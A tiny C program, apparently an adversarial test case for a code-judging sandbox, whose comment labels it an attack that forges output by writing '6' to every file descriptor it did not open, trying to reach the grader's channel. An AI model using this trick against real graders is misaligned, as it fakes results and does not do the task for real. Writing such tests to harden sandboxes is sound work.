// Attack on stdin_stdout (forged output): writes to descriptors it did not open.
#include <unistd.h>
int main(void) {
  for (int fd = 3; fd < 1024; ++fd)
    if (write(fd, "6\n", 2) < 0) continue;
  return 0;
}
